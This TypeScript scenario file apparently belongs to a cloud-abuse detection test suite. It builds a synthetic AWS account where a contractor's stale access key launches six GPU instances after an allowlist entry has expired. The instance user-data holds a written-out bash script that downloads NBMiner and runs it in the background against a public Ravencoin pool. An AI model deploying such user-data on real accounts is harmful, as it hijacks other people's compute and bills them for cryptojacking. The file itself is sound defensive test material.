/**
 * scenarios/expired-allowlist-gpu: a render contractor ran g4dn instances in us-west-2 from August
 * to October, allowlisted by family until 31 October. The contractor's access key was never
 * deactivated; in November someone uses it to start six g4dn.12xlarge with a KawPow miner. The
 * expired entry must not hide them, and the report must say it expired.
 * Run: npx tsx scripts/scenarios/expired-allowlist-gpu.ts [--ids]
 */
import {
  type AccountSpec,
  buildAccount,
  isMain,
  iso,
  ordinaryCompany,
  type Rng,
  writeScenario,
} from "./account-builder.js";

const HOME = "us-west-2";
const LAUNCH = Date.parse("2026-11-24T04:12:30Z");

const USER_DATA = [
  "#!/bin/bash",
  "cd /opt && wget -q https://github.com/NebuTech/NBMiner/releases/download/v42.3/NBMiner_42.3_Linux.tgz",
  "tar xzf NBMiner_42.3_Linux.tgz && cd NBMiner_Linux",
  "nohup ./nbminer -a kawpow -o stratum+tcp://rvn.2miners.com:6060 -u RVt6n8Xq3bYw2kLp9ZcF4dGhJ7mN5sA1eQ.render -log &",
  "",
].join("\n");

export const spec: AccountSpec = {
  scenario: "expired-allowlist-gpu",
  description: "Six g4dn.12xlarge mining with a render contractor's old key; the family allowlist entry expired",
  accountId: "286417395028",
  windowEnd: "2026-11-24T16:00:00.000Z",
  homeRegions: [HOME],
  workloads: [
    ...ordinaryCompany({ region: HOME, prefix: "studio", utcOffsetHours: -8, since: "2026-01-20T18:00:00Z" }),
    ...Array.from({ length: 6 }, (_, k) => ({
      name: `render-old-key-${k + 1}`,
      image: "ubuntu-22.04-us-west-2",
      region: HOME,
      instanceType: "g4dn.12xlarge",
      launchTime: iso(LAUNCH + k * 5_000),
      keyName: "pixelforge-render",
      publicIpPrefixes: ["35.160", "52.12"],
      userData: USER_DATA,
      cpu: (_ms: number, rng: Rng) => rng.uniform(4, 7),
      networkOut: (_ms: number, rng: Rng) => rng.uniform(2e6, 4e6),
      packetBytes: 200,
    })),
  ],
  pastCompute: [
    {
      region: HOME,
      instanceType: "g4dn.12xlarge",
      // The contractor's project: up to the end of October, on working days.
      hoursPerDay: (day, _index, rng) =>
        day <= "2026-10-31" && new Date(`${day}T00:00:00Z`).getUTCDay() % 6 !== 0 ? rng.uniform(20, 60) : 0,
    },
  ],
};

export const build = () => buildAccount(spec);
if (isMain(import.meta.url)) writeScenario(spec);
